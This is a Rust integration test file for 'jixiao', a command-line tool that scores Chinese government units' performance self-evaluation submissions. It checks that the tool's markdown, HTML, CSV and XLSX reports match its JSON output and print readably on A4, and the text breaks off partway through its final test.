//! `jixiao score --format markdown|html|csv|xlsx` and `--out-dir`: each
//! format on the example, and on a folder holding the example, two variants
//! and a broken file. The CSV and the XLSX are read back and must say what
//! the JSON says.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use calamine::{Data, Reader, Xlsx, open_workbook};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

const MANIFEST: &str = env!("CARGO_MANIFEST_DIR");
const EXAMPLE: &str = "examples/2022/yueyanglou-finance-office.toml";

struct Run {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: String,
}

impl Run {
    fn text(&self) -> String {
        String::from_utf8(self.stdout.clone()).expect("stdout is UTF-8")
    }
}

fn jixiao(args: &[&str]) -> Run {
    let out = Command::new(env!("CARGO_BIN_EXE_jixiao"))
        .current_dir(MANIFEST)
        .env("NO_COLOR", "1")
        .args(args)
        .output()
        .expect("run jixiao");
    Run {
        code: out.status.code(),
        stdout: out.stdout,
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// A fresh temporary folder for one test.
fn temp(name: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("jixiao-formats-{:010}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("create temp dir");
    dir
}

/// A district folder: the example, the example received 3 days late, a
/// broken file, the example without its review (pending).
fn district(name: &str) -> PathBuf {
    let dir = temp(name);
    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read example");
    // Each a unit of its own: a summary ranks every unit once. (Named so
    // wherever the package names itself: its self-checks list it too.)
    let named = |name: &str| {
        let renamed = example.replace("岳阳市岳阳楼区人民政府金融工作办公室", name);
        assert_ne!(renamed, example, "example has its unit's name");
        renamed
    };
    let late = named("岳阳楼区迟报单位").replacen(
        "received_on = 2023-06-14",
        "received_on = 2023-06-18",
        1,
    );
    assert!(
        late.contains("received_on = 2023-06-18"),
        "example has its received_on line"
    );
    let pending = named("岳阳楼区待评单位");
    let cut = pending.find("\n[review]").expect("example has [review]");
    let files = [
        ("01-example.toml", example.clone()),
        ("02-late.toml", late),
        (
            "03-broken.toml",
            "format = 1\n[unit\nname = \"坏文件\"\n".to_string(),
        ),
        (
            "04-no-review.toml",
            pending.get(..=cut).unwrap_or("").to_string(),
        ),
    ];
    for (file, text) in files {
        std::fs::write(dir.join(file), text).expect("write district file");
    }
    dir
}

fn s(p: &Path) -> &str {
    p.to_str().expect("UTF-8 path")
}

fn json_of(run: &Run) -> Value {
    serde_json::from_slice(&run.stdout).expect("stdout is JSON")
}

/// Every criterion of a JSON outcome in sheet order.
fn criteria(unit: &Value) -> Vec<Value> {
    fn walk(nodes: &Value, out: &mut Vec<Value>) {
        for n in nodes.as_array().into_iter().flatten() {
            out.push(n.clone());
            walk(&n["children"], out);
        }
    }
    let mut out = Vec::new();
    walk(&unit["criteria"], &mut out);
    out
}

/// A score as the summary writes it: the number, or nothing while pending
/// (a pending total's range has columns of its own, as numbers).
fn shown_score(node: &Value) -> String {
    node["score"].as_str().unwrap_or("").to_string()
}

fn count(unit: &Value, severity: &str) -> String {
    unit["findings"]
        .as_array()
        .map_or(0, |f| {
            f.iter().filter(|f| f["severity"] == severity).count()
        })
        .to_string()
}

/// A small RFC 4180 reader: quoted fields, doubled quotes, CRLF.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let text = text
        .strip_prefix('\u{feff}')
        .expect("CSV starts with a BOM");
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "CSV ends with a line end"
    );
    rows
}

/// Every part whose local header says its sizes follow its data (flag
/// bit 3) is followed by them (a data descriptor, `PK\x07\x08`): strict
/// readers (`unzip -t`) refuse a workbook where they are missing, though
/// Excel and LibreOffice open it.
fn assert_well_formed_zip(path: &Path) {
    let bytes = std::fs::read(path).expect("read workbook");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&bytes)).expect("a zip");
    for i in 0..archive.len() {
        let part = archive.by_index_raw(i).expect("part");
        let header = part.header_start() as usize;
        let flags = u16::from_le_bytes([bytes[header + 6], bytes[header + 7]]);
        if flags & 8 == 0 {
            continue;
        }
        let end = (part.data_start().expect("data start") + part.compressed_size()) as usize;
        assert_eq!(
            bytes.get(end..end + 4),
            Some(&b"PK\x07\x08"[..]),
            "{}: sizes said to follow, and none do",
            part.name()
        );
    }
}

fn read_xlsx(path: &Path, sheet: &str) -> Vec<Vec<String>> {
    let mut book: Xlsx<_> = open_workbook(path).expect("open xlsx");
    let range = book.worksheet_range(sheet).expect("sheet");
    range
        .rows()
        .map(|r| {
            r.iter()
                .map(|c| match c {
                    Data::Empty => String::new(),
                    Data::String(s) => s.clone(),
                    Data::Float(f) => format!("{f}"),
                    Data::Int(i) => i.to_string(),
                    other => format!("{other:?}"),
                })
                .collect()
        })
        .collect()
}

/// The summary table must say what the JSON array says, row by row; a
/// JSON item with `errors` is a failed row naming the file.
fn assert_summary_matches(table: &[Vec<String>], units: &[Value]) {
    let header = table.first().expect("header row");
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}: {header:?}"))
    };
    let (unit_c, file_c, total_c, status_c) = (col("单位"), col("文件"), col("总分"), col("状态"));
    let (low_c, high_c) = (col("最低分"), col("最高分"));
    // 状态 is the status alone; 复核, beside it, the reviewers' call to
    // recheck (none here); the criteria follow.
    let recheck_c = col("复核");
    assert_eq!(recheck_c, status_c + 1, "{header:?}");
    let (err_c, warn_c, info_c, why_c) =
        (col("错误"), col("警告"), col("提示"), col("未能评分的原因"));
    assert_eq!(table.len(), units.len() + 1, "one row per input");
    let first_scored = units
        .iter()
        .find(|u| u.get("errors").is_none())
        .expect("a scored unit");
    let nodes = criteria(first_scored);
    for (n, node) in nodes.iter().enumerate() {
        let h = header.get(recheck_c + 1 + n).expect("criterion column");
        let title = node["title"].as_str().unwrap_or("");
        assert!(h.starts_with(title), "column {h} is {title}");
    }
    for (row, unit) in table.iter().skip(1).zip(units) {
        let cell = |c: usize| row.get(c).map_or("", String::as_str);
        // Every object names its file: the summary's row is found by it.
        assert_eq!(cell(file_c), unit["file"].as_str().unwrap_or(""));
        if unit.get("status").and_then(Value::as_str) == Some("failed") {
            assert!(
                unit.get("errors").is_some(),
                "a failed object lists its errors"
            );
            assert_eq!(cell(status_c), "未能评分");
            assert!(!cell(why_c).is_empty(), "the error is listed");
            continue;
        }
        assert_eq!(cell(unit_c), unit["unit"].as_str().unwrap_or(""));
        assert_eq!(
            cell(total_c),
            shown_score(unit),
            "total of {}",
            cell(file_c)
        );
        assert_eq!(cell(low_c), unit["range"][0].as_str().unwrap_or("?"));
        assert_eq!(cell(high_c), unit["range"][1].as_str().unwrap_or("?"));
        let status = if unit["status"] == "final" {
            "已定分"
        } else {
            "待评审"
        };
        assert_eq!(cell(status_c), status);
        assert_eq!(cell(recheck_c), "");
        for (n, node) in criteria(unit).iter().enumerate() {
            assert_eq!(
                cell(recheck_c + 1 + n),
                shown_score(node),
                "{} in {}",
                node["id"],
                cell(file_c)
            );
        }
        assert_eq!(cell(err_c), count(unit, "error"));
        assert_eq!(cell(warn_c), count(unit, "warning"));
        assert_eq!(cell(info_c), count(unit, "info"));
        assert_eq!(cell(why_c), "");
    }
}

/// A finding's rule place is the same in JSON and in the text report: the
/// expression the message is about, its column in characters (cli.md).
#[test]
fn rule_places_agree_between_json_and_text() {
    let json = json_of(&jixiao(&["score", "--format", "json", EXAMPLE]));
    let text = jixiao(&["score", EXAMPLE]).text();
    let findings = json["findings"].as_array().expect("findings");
    assert!(!findings.is_empty());
    for f in findings {
        let r = &f["rule"];
        let place = format!(
            "[{}:{}:{}]",
            r["file"].as_str().expect("file"),
            r["line"],
            r["column"]
        );
        assert!(
            text.contains(&place),
            "{} at {place} not in the text report",
            f["id"]
        );
    }
}

#[test]
fn markdown_of_the_example() {
    let run = jixiao(&["score", "--format", "markdown", EXAMPLE]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let md = run.text();
    // The refinement rule's line, wherever the sheet has it today.
    let sheet = std::fs::read_to_string(Path::new(MANIFEST).join("rules/2022/sheet.jx"))
        .expect("read sheet");
    let line = sheet
        .lines()
        .position(|l| l.trim() == "judge 0 to 5")
        .expect("refinement's judge")
        + 1;
    let judge_rule = format!("规则 `builtin:2022/sheet.jx` 第 {line} 行");
    // A judged criterion's explanation shows the hint the reviewers saw.
    assert!(md.contains("- 提示：已细化的二级指标：16 / 18"), "{md}");
    // One reviewer: the 合成 column says their score is the criterion's.
    assert!(md.contains("| 一人评审 4 |"), "{md}");
    let judge_line = format!("{line} │         judge 0 to 5");
    for needle in [
        "# 绩效自评工作考核评分报告",
        "岳阳市岳阳楼区人民政府金融工作办公室",
        "| 总分 | **95** / 100 |",
        "| 状态 | 已定分 |",
        "错误 1 项，警告 6 项，提示 7 项",
        "| **合计** | | 100 | **95** | 5 | |",
        "### 1. 细化到三级指标（`refinement`）：扣 1 分",
        judge_rule.as_str(),
        judge_line.as_str(),
        "^^^^^^",
        "评审意见 · 细化到三级指标 · 得分",
        "500 │ score = 4",
        "> 部门整体支出和项目支出绩效指标全部细化到三级指标的",
        "### 错误（1 项）",
        "### 警告（6 项）",
        "### 提示（7 项）",
        "自评报告称整体绩效自评得分为100分，自评表总分为98分",
        "`stated` = 100",
    ] {
        assert!(md.contains(needle), "markdown lacks {needle:?}:\n{md}");
    }
    let errors = md.find("### 错误").unwrap_or(usize::MAX);
    let infos = md.find("### 提示").unwrap_or(0);
    assert!(errors < infos, "findings grouped by severity, errors first");
}

/// A finding's excerpt of the submission shows the row its cells are in:
/// the row's name with the cells marked, and the whole row where the
/// finding points at the row.
#[test]
fn excerpts_show_the_row_a_cell_is_in() {
    let run = jixiao(&["score", "--format", "markdown", EXAMPLE]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let md = run.text();
    // The excerpt (a fenced block) right after a finding's heading.
    let excerpt_of = |heading: &str| -> String {
        let at = md
            .find(heading)
            .unwrap_or_else(|| panic!("no {heading:?}:\n{md}"));
        let rest = &md[at..];
        let data = rest.find("报送材料").expect("an excerpt of the submission");
        let block = &rest[data..];
        let start = block.find("```text").expect("fenced") + 7;
        let end = block[start..].find("```").expect("closed") + start;
        block[start..end].to_string()
    };
    // Cells of a basic-data line: the line's item is shown with them. A
    // finding about an indicator row: the whole row, its score and weight.
    for (heading, needles) in [
        (
            "“三公经费”无预算安排",
            [
                "[[basic_data.expenses]]",
                "item = \"三公经费\"",
                "budget = 0",
                "final = 1.9",
            ],
        ),
        (
            "未填写偏差原因分析",
            [
                "[[projects.indicators]]",
                "name = \"业务工作经费\"",
                "weight = 10",
                "score = 9",
            ],
        ),
    ] {
        let excerpt = excerpt_of(heading);
        for needle in needles {
            assert!(excerpt.contains(needle), "{needle:?} not in:\n{excerpt}");
        }
    }
    // A cell of a long table ([overall.funds]) shows no more than the few
    // lines around it: excerpts stay excerpts.
    for block in md.split("```text").skip(1) {
        let lines = block.split("```").next().unwrap_or("").lines().count();
        assert!(lines <= 16, "an excerpt of {lines} lines:\n{block}");
        // A row's lines are its own cells: a table under it (its own
        // header) is not drawn in, and no edge is a blank line.
        let texts: Vec<&str> = block
            .split("```")
            .next()
            .unwrap_or("")
            .lines()
            .filter_map(|l| l.split_once(" │ ").map(|(_, t)| t))
            .collect();
        assert!(
            texts.iter().filter(|t| t.starts_with('[')).count() <= 1,
            "a second table in:\n{block}"
        );
        let edges = [texts.first(), texts.last()];
        assert!(
            edges.iter().flatten().all(|t| !t.trim().is_empty()),
            "a blank edge:\n{block}"
        );
    }
}

/// A Word package's evidence names the Word table and row, and gives the
/// rest of that row (as a TOML excerpt shows the row's lines): the
/// indicator's target, actual, weight and score beside the cell a finding
/// is about, a long sentence by its beginning.
#[test]
fn word_evidence_gives_the_rest_of_the_row() {
    let docx = EXAMPLE.replace(".toml", ".docx");
    let received = "--received-on=2023-06-14";
    let run = jixiao(&["score", "--format", "markdown", received, &docx]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let md = run.text();
    for needle in [
        "第3个表格第19行（该行：一级指标 产出指标；二级指标 成本指标；三级指标 业务工作经费；年度指标值 100万；实际完成值 96.9万；分值 10；得分 9）",
        "第1个表格第5行（该行：项目 三公经费；2021年决算数 2.7；2022年预算数 0）",
    ] {
        assert!(md.contains(needle), "{needle}:\n{md}");
    }
    // Only cells of the same Word row: the form's 总分 row is not the
    // table's other rows.
    assert!(
        md.contains("第2个表格第40行（该行：总分 · 分值 100）"),
        "{md}"
    );
    for line in md.lines().filter(|l| l.contains("（该行：")) {
        let row = line.split("（该行：").nth(1).unwrap_or("");
        for cell in row.trim_end_matches('）').split('；') {
            let value = cell.split_once(' ').map_or("", |(_, v)| v);
            assert!(value.chars().count() <= 31, "{cell:?} in {line}");
        }
    }
}

#[test]
fn html_of_the_example_is_self_contained() {
    let run = jixiao(&["score", "--format", "html", EXAMPLE]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let html = run.text();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.trim_end().ends_with("</html>"));
    for needle in [
        "<html lang=\"zh-CN\">",
        "@page { size: A4;",
        "@media print",
        "<span class=\"big\">95</span>",
        "已定分",
        "细化到三级指标",
        "judge <mark>0 to 5</mark>",
        "score = <mark>4</mark>",
        "错误 1 项，警告 6 项，提示 7 项",
        "自评报告称整体绩效自评得分为100分，自评表总分为98分",
    ] {
        assert!(html.contains(needle), "html lacks {needle:?}");
    }
    for outside in ["<script", "<link", "http://", "https://", "url(", "@import"] {
        assert!(!html.contains(outside), "html refers outside: {outside}");
    }
    // The refinement deduction links to the findings its criterion names
    // (`related to unrefined_level2`), numbered 11 and 12 below.
    for number in [11, 12] {
        let link = format!("-f{number}\">检查发现第 {number} 条</a>");
        let at = html.find(&link).unwrap_or_else(|| panic!("no link {link}"));
        let id = html[..at].rsplit("href=\"#").next().expect("href");
        let target = html
            .find(&format!("id=\"{id}-f{number}\">"))
            .unwrap_or_else(|| panic!("no finding {id}-f{number}"));
        assert!(
            html[target..].starts_with(&format!("id=\"{id}-f{number}\">\n<h3>{number}. "))
                && html[target..]
                    .split("</h3>")
                    .next()
                    .unwrap_or("")
                    .contains("没有三级指标"),
            "finding {number} is not an unrefined 二级指标"
        );
    }
    let again = jixiao(&["score", "--format", "html", EXAMPLE]);
    assert_eq!(again.stdout, run.stdout, "same input, same bytes");
}

#[test]
fn csv_and_xlsx_of_the_example_match_the_json() {
    let json = jixiao(&["score", "--format", "json", EXAMPLE]);
    assert_eq!(json.code, Some(0), "{}", json.stderr);
    let units = vec![json_of(&json)];

    let csv = jixiao(&["score", "--format", "csv", EXAMPLE]);
    assert_eq!(csv.code, Some(0), "{}", csv.stderr);
    assert_summary_matches(&parse_csv(&csv.text()), &units);

    let dir = temp("example-xlsx");
    let out = dir.join("汇总.xlsx");
    let xlsx = jixiao(&["score", "--format", "xlsx", "-o", s(&out), EXAMPLE]);
    assert_eq!(xlsx.code, Some(0), "{}", xlsx.stderr);
    assert!(xlsx.stdout.is_empty());
    assert_well_formed_zip(&out);
    assert_summary_matches(&read_xlsx(&out, "汇总"), &units);
    let findings = read_xlsx(&out, "检查发现");
    let expected: Vec<&str> = units[0]["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter_map(|f| f["message"].as_str())
        .collect();
    let listed: Vec<&str> = findings
        .iter()
        .skip(1)
        .filter_map(|r| r.get(4).map(String::as_str))
        .collect();
    assert_eq!(listed, expected, "every finding, in order");
    // Each finding's places, in the unit's words with the line of the file
    // (its name is in a column of its own), as the JSON's data gives them.
    for (row, f) in findings
        .iter()
        .skip(1)
        .zip(units[0]["findings"].as_array().expect("findings"))
    {
        let places: Vec<String> = f["data"]
            .as_array()
            .expect("data")
            .iter()
            .map(|p| {
                format!(
                    "{}（报送文件第 {} 行）",
                    p["document"].as_str().unwrap_or(""),
                    p["source"]["line"]
                )
            })
            .collect();
        assert_eq!(
            row.get(6).map(String::as_str),
            Some(places.join("；").as_str())
        );
    }
    let lost = read_xlsx(&out, "扣分明细");
    let deductions: usize = criteria(&units[0])
        .iter()
        .map(|n| n["deductions"].as_array().map_or(0, Vec::len))
        .sum();
    assert_eq!(lost.len() - 1, deductions, "every lost point");
    assert_eq!(deductions, 4);

    let first = std::fs::read(&out).expect("read xlsx");
    let again = jixiao(&["score", "--format", "xlsx", "-o", s(&out), EXAMPLE]);
    assert_eq!(again.code, Some(0));
    assert_eq!(std::fs::read(&out).expect("read xlsx"), first, "same bytes");
    let _ = std::fs::remove_dir_all(&dir);
}

/// The rows of each sheet of a workbook, as written: (row number, height
/// when it has one of its own), by sheet name.
type SheetRows = Vec<(String, Vec<(u32, Option<f64>)>)>;

fn xlsx_rows(path: &Path) -> SheetRows {
    let text = |name: &str| xlsx_part(path, name);
    let book = text("xl/workbook.xml");
    let names: Vec<String> = book
        .split("<sheet ")
        .skip(1)
        .filter_map(|s| {
            s.split("name=\"")
                .nth(1)?
                .split('"')
                .next()
                .map(String::from)
        })
        .collect();
    let attr = |tag: &str, name: &str| -> Option<String> {
        Some(
            tag.split(&format!(" {name}=\""))
                .nth(1)?
                .split('"')
                .next()?
                .to_string(),
        )
    };
    names
        .into_iter()
        .enumerate()
        .map(|(i, name)| {
            let xml = text(&format!("xl/worksheets/sheet{}.xml", i + 1));
            let rows = xml
                .split("<row ")
                .skip(1)
                .map(|tag| {
                    let tag = format!(" {}", tag.split('>').next().unwrap_or(""));
                    let tag = tag.as_str();
                    let r = attr(tag, "r")
                        .and_then(|r| r.parse().ok())
                        .expect("row number");
                    let custom = attr(tag, "customHeight").as_deref() == Some("1");
                    let ht = attr(tag, "ht")
                        .and_then(|h| h.parse().ok())
                        .filter(|_| custom);
                    (r, ht)
                })
                .collect();
            (name, rows)
        })
        .collect()
}

/// A part of a workbook (`xl/workbook.xml`, a sheet's XML), as text.
fn xlsx_part(path: &Path, name: &str) -> String {
    use std::io::Read as _;
    let file = std::fs::File::open(path).expect("open xlsx");
    let mut zip = zip::ZipArchive::new(file).expect("a zip");
    let mut out = String::new();
    zip.by_name(name)
        .expect("part")
        .read_to_string(&mut out)
        .expect("read part");
    out
}

/// The value of attribute `name` in the first `<tag …>` of `xml`.
fn attr_of(xml: &str, tag: &str, name: &str) -> Option<String> {
    let at = xml.find(&format!("<{tag} "))?;
    let end = at + xml[at..].find('>')?;
    let element = &xml[at..end];
    let value = element.split(&format!(" {name}=\"")).nth(1)?;
    Some(value.split('"').next()?.to_string())
}

/// The example with one reviewer's note made long (about 200 Chinese
/// characters), which the 扣分明细 sheet's 原因 column holds.
fn example_with_a_long_note() -> (String, String) {
    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read example");
    let note = "部分三级指标（如“发放扶贫贷款”“提高服务满意度”）未量化，不够具体可衡量。";
    let long = format!(
        "{note}{}",
        "产出指标中数量、质量、时效、成本四类指标设置不完整，效益指标多为定性描述。".repeat(4)
    );
    let noted = example.replacen(
        &format!("note = \"{note}\""),
        &format!("note = \"{long}\""),
        1,
    );
    assert_ne!(noted, example, "example has the note");
    (noted, long)
}

/// The summary is written a row at a time, in constant memory: no row is
/// written twice (which Excel repairs, with a warning). LibreOffice and WPS
/// show a row without a height of its own one line high, however long its
/// wrapped text, so every row whose texts take more lines is given the
/// height of its tallest cell (set as the finished workbook is copied, not
/// through the constant-memory sheet, which would keep every such row's
/// settings until the file is saved: 46 MB instead of 15.5 MB for 2,000
/// units). A row of one line of Chinese text is a little taller than the
/// default, which LibreOffice's Chinese line overfills.
#[test]
fn summary_rows_are_written_once_as_tall_as_their_texts() {
    let dir = temp("row-heights");
    let (noted, long) = example_with_a_long_note();
    std::fs::write(dir.join("unit.toml"), noted).expect("write");
    let out = dir.join("汇总.xlsx");
    let run = jixiao(&[
        "score",
        "--format",
        "xlsx",
        "-o",
        s(&out),
        s(&dir.join("unit.toml")),
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let sheets = xlsx_rows(&out);
    assert!(sheets.len() >= 3, "{sheets:?}");
    for (name, rows) in &sheets {
        let numbers: Vec<u32> = rows.iter().map(|(r, _)| *r).collect();
        assert!(
            numbers.windows(2).all(|w| w[0] < w[1]),
            "{name}: rows {numbers:?}"
        );
    }
    let rows_of = |sheet: &str| {
        sheets
            .iter()
            .find(|(name, _)| name == sheet)
            .map(|(_, rows)| rows.clone())
            .unwrap_or_else(|| panic!("no sheet {sheet}"))
    };
    let height = |rows: &[(u32, Option<f64>)], r: u32| {
        rows.iter()
            .find(|(n, _)| *n == r)
            .unwrap_or_else(|| panic!("no row {r}: {rows:?}"))
            .1
    };
    // 汇总: the criteria's titles wrap in the header; the unit's row is
    // one line (of Chinese text, a little taller than the default).
    let main = rows_of("汇总");
    assert!(height(&main, 1).is_some_and(|h| h > 30.0), "{main:?}");
    assert!(height(&main, 2).is_some_and(|h| h < 30.0), "{main:?}");
    // 扣分明细: the long note (about 200 characters in a column at most 60
    // wide, 28 a line) takes at least 8 lines.
    let lines = read_xlsx(&out, "扣分明细");
    let at = lines
        .iter()
        .position(|l| l.get(6).is_some_and(|why| why.contains(&long)))
        .expect("the note's line");
    let r = u32::try_from(at + 1).expect("row number");
    let deductions = rows_of("扣分明细");
    let tall = height(&deductions, r);
    assert!(tall.is_some_and(|h| h >= 8.0 * 15.0), "{deductions:?}");
    // No row is less tall than the default, or taller than Excel allows.
    for (name, rows) in &sheets {
        for (r, h) in rows {
            if let Some(h) = h {
                assert!((15.0..=409.0).contains(h), "{name} row {r}: {h}");
            }
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// What A4 landscape leaves for the table, in pixels at 100 % (96 an inch)
/// between the sheet's side margins.
fn printable_px(sheet_xml: &str) -> f64 {
    let margin = |side: &str| -> f64 {
        attr_of(sheet_xml, "pageMargins", side)
            .and_then(|m| m.parse().ok())
            .expect("page margins")
    };
    (11.69 - margin("left") - margin("right")) * 96.0
}

/// Each column's width on screen and paper, in pixels at 100 %, as Excel
/// draws a width of `<col width>` characters of 11-point Calibri.
fn column_pixels(sheet_xml: &str) -> Vec<f64> {
    let mut out = Vec::new();
    for col in sheet_xml.split("<col ").skip(1) {
        let tag = format!("<col {}>", col.split('>').next().unwrap_or(""));
        let n = |a: &str| -> usize {
            attr_of(&tag, "col", a)
                .and_then(|v| v.parse().ok())
                .expect("col min/max")
        };
        let w: f64 = attr_of(&tag, "col", "width")
            .and_then(|v| v.parse().ok())
            .expect("col width");
        out.resize(n("max"), (8.43_f64 * 7.0).round());
        for px in out.iter_mut().take(n("max")).skip(n("min") - 1) {
            *px = (w * 7.0).round();
        }
    }
    out
}

/// Every sheet of the summary prints readably on A4 landscape (a bureau
/// clerk files the printout): one page wide only where that keeps the text
/// at about 80 % of its size or more (fitting the summary's 33 columns on
/// one page printed it at about 3 points), else several pages wide with
/// the unit's 序号 and 单位 on every page, the pages of a band of rows one
/// after the other; the header row on every page; the sheet's title atop
/// and 第 x 页，共 y 页 below. The long texts of 检查发现 and 扣分明细 wrap
/// in narrower columns, so that those sheets stay one page wide.
#[test]
fn summary_sheets_print_readably_on_a4_landscape() {
    let dir = district("print-setup");
    let out = dir.join("汇总.xlsx");
    let run = jixiao(&["score", "--format", "xlsx", "-o", s(&out), s(&dir)]);
    assert_eq!(run.code, Some(1), "a broken file: {}", run.stderr);
    let book = xlsx_part(&out, "xl/workbook.xml");
    let names = ["汇总", "待评审", "检查发现", "扣分明细"];
    for (i, name) in names.iter().enumerate() {
        let xml = xlsx_part(&out, &format!("xl/worksheets/sheet{}.xml", i + 1));
        let setup = |a: &str| attr_of(&xml, "pageSetup", a);
        assert_eq!(setup("paperSize").as_deref(), Some("9"), "{name}: A4");
        assert_eq!(setup("orientation").as_deref(), Some("landscape"), "{name}");
        assert_eq!(setup("fitToHeight").as_deref(), Some("0"), "{name}");
        assert_eq!(
            setup("pageOrder").as_deref(),
            Some("overThenDown"),
            "{name}"
        );
        assert!(xml.contains("<pageSetUpPr fitToPage=\"1\"/>"), "{name}");
        assert!(
            xml.contains(&format!(
                "<oddHeader>&amp;C绩效自评工作考核评分汇总　{name}</oddHeader>"
            )),
            "{name}: {xml}"
        );
        assert!(
            xml.contains("<oddFooter>&amp;C第 &amp;P 页，共 &amp;N 页</oddFooter>"),
            "{name}"
        );
        let titles = |range: &str| {
            book.contains(&format!(
                "<definedName name=\"_xlnm.Print_Titles\" localSheetId=\"{i}\">{range}</definedName>"
            ))
        };
        let pages: f64 = setup("fitToWidth").map_or(1.0, |n| n.parse().expect("pages wide"));
        let columns = column_pixels(&xml);
        let total: f64 = columns.iter().sum();
        let page = printable_px(&xml);
        if pages > 1.0 {
            // The key columns on every page: the scale is at most what
            // the pages hold of the table and the key columns again.
            assert!(
                titles(&format!("{name}!$A:$B,{name}!$1:$1")),
                "{name}: {book}"
            );
            let keys: f64 = columns.iter().take(2).sum();
            let scale = pages * page / (total + (pages - 1.0) * keys);
            assert!(scale >= 0.8, "{name}: {pages} pages wide at {scale}");
        } else {
            assert!(titles(&format!("{name}!$1:$1")), "{name}: {book}");
            let scale = (page / total).min(1.0);
            assert!(scale >= 0.8, "{name}: one page wide at {scale}");
        }
        if *name == "汇总" {
            assert!(pages >= 2.0, "33 columns do not fit one page: {pages}");
        }
        if *name == "检查发现" || *name == "扣分明细" {
            assert_eq!(pages, 1.0, "{name}: its texts wrap to fit");
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// Where a program is installed.
fn installed(program: &str) -> bool {
    Command::new("which")
        .arg(program)
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Printed by LibreOffice, every Chinese word of the summary is at least 8
/// points a character (11-point text at 73 % or more; 3 points when the
/// summary was fitted to one page), the 汇总 sheet takes several pages
/// wide, and the long note is printed whole: its row is tall enough for
/// all its lines. Needs LibreOffice, poppler's pdftotext and Calibri's
/// metrics (Calibri, or Carlito: with another font in its place the
/// columns are wider than Excel draws them, and the scale smaller).
#[test]
fn the_printed_summary_is_readable() {
    for tool in ["soffice", "pdftotext", "pdfinfo", "fc-match"] {
        if !installed(tool) {
            eprintln!(
                "skipped: {tool} is not installed (apt-get install libreoffice-calc poppler-utils fonts-crosextra-carlito fonts-noto-cjk)"
            );
            return;
        }
    }
    let calibri = Command::new("fc-match")
        .arg("Calibri")
        .output()
        .expect("fc-match");
    let calibri = String::from_utf8_lossy(&calibri.stdout).to_string();
    if !calibri.contains("Carlito") && !calibri.contains("Calibri") {
        eprintln!(
            "skipped: no Calibri or Carlito (fc-match Calibri: {}); apt-get install fonts-crosextra-carlito",
            calibri.trim()
        );
        return;
    }
    let dir = temp("printed");
    let (noted, long) = example_with_a_long_note();
    std::fs::write(dir.join("01.toml"), &noted).expect("write");
    let other = noted.replace(
        "岳阳市岳阳楼区人民政府金融工作办公室",
        "岳阳市岳阳楼区城市管理和综合执法局",
    );
    std::fs::write(dir.join("02.toml"), other).expect("write");
    let out = dir.join("汇总.xlsx");
    let run = jixiao(&["score", "--format", "xlsx", "-o", s(&out), s(&dir)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let profile = dir.join("lo-profile");
    let converted = Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--convert-to", "pdf", "--outdir"])
        .arg(&dir)
        .arg(&out)
        .output()
        .expect("run soffice");
    let pdf = dir.join("汇总.pdf");
    assert!(pdf.is_file(), "soffice printed nothing: {converted:?}");
    let bbox = Command::new("pdftotext")
        .args(["-bbox"])
        .arg(&pdf)
        .arg("-")
        .output()
        .expect("pdftotext");
    let bbox = String::from_utf8_lossy(&bbox.stdout).to_string();
    let number = |word: &str, a: &str| -> f64 {
        word.split(&format!("{a}=\""))
            .nth(1)
            .and_then(|v| v.split('"').next())
            .and_then(|v| v.parse().ok())
            .expect("a coordinate")
    };
    let mut sizes = Vec::new();
    for word in bbox.split("<word ").skip(1) {
        let text = word
            .split('>')
            .nth(1)
            .and_then(|t| t.split('<').next())
            .unwrap_or("");
        let chinese = text.chars().count() >= 2
            && text.chars().all(|c| ('\u{4E00}'..='\u{9FFF}').contains(&c));
        if chinese {
            let width = number(word, "xMax") - number(word, "xMin");
            sizes.push((width / text.chars().count() as f64, text.to_string()));
        }
    }
    assert!(sizes.len() > 100, "{bbox}");
    let smallest = sizes
        .iter()
        .min_by(|a, b| a.0.total_cmp(&b.0))
        .expect("words");
    assert!(
        smallest.0 >= 8.0,
        "printed at {} pt: {}",
        smallest.0,
        smallest.1
    );
    // 汇总 is several pages wide: the second page repeats 单位 and holds
    // criteria, not the summary's first columns.
    let page = |n: usize| {
        let out = Command::new("pdftotext")
            .args(["-f", &n.to_string(), "-l", &n.to_string()])
            .arg(&pdf)
            .arg("-")
            .output()
            .expect("pdftotext");
        String::from_utf8_lossy(&out.stdout).to_string()
    };
    let second = page(2);
    assert!(
        second.contains("单位") && second.contains("岳阳市岳阳楼区城市管理和综合执法局"),
        "{second}"
    );
    assert!(!second.contains("送达日期"), "{second}");
